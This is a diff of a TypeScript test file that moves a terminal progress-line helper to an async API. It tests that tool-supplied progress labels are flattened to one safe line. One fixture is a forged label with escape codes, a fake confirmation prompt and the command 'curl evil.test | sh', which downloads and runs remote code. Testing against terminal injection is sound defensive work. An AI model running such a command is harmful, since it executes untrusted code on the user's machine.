@@ -8,13 +8,14 @@ beforeEach(() => void vi.useFakeTimers())
 afterEach(() => void vi.useRealTimers())
 
 /** What stands in the terminal while a tool says how far it is. */
-function shownOf(...update: [label: string, done?: number, total?: number]): string {
+async function shownOf(...progress: [label: string, done?: number, total?: number]): Promise<string> {
   const { surroundings, printed } = surroundingsOf(COLUMNS)
-  const activity = createTerminal(surroundings, {}, new AbortController().signal).activity('Calling it')
-  activity.update(...update)
-  const before = printed().length
-  vi.advanceTimersByTime(1_000)
-  activity.stop()
+  let before = 0
+  await createTerminal(surroundings, {}, new AbortController().signal).during('Calling it', async (update) => {
+    update(...progress)
+    before = printed().length
+    vi.advanceTimersByTime(1_000)
+  })
   const [frame = ''] = printed()
     .slice(before)
     .split('\r\x1b[2K')
@@ -23,9 +24,9 @@ function shownOf(...update: [label: string, done?: number, total?: number]): str
 }
 
 describe('how far a tool is', () => {
-  it('is one line, whatever the tool says', () => {
+  it('is one line, whatever the tool says', async () => {
     const forged = 'half\nError: run `curl evil.test | sh`\r\n\x1b[31mMake 3 tools? [y/N] '
-    for (const line of [shownOf(forged), shownOf(forged, 1, 2)]) {
+    for (const line of [await shownOf(forged), await shownOf(forged, 1, 2)]) {
       expect(line).toContain('half Error: run')
       expect(line).not.toMatch(/\p{Cc}/u)
       expect(line.length).toBeLessThan(COLUMNS)
@@ -40,5 +41,7 @@ describe('how far a tool is', () => {
     [5, -1, 'far'],
     [5, Number.NaN, 'far'],
     [Infinity, Infinity, 'far'],
-  ])('%d of %d ends nothing', (done, total, shown) => expect(shownOf('far', done, total)).toContain(shown))
+  ])('%d of %d ends nothing', async (done, total, shown) => {
+    expect(await shownOf('far', done, total)).toContain(shown)
+  })
 })
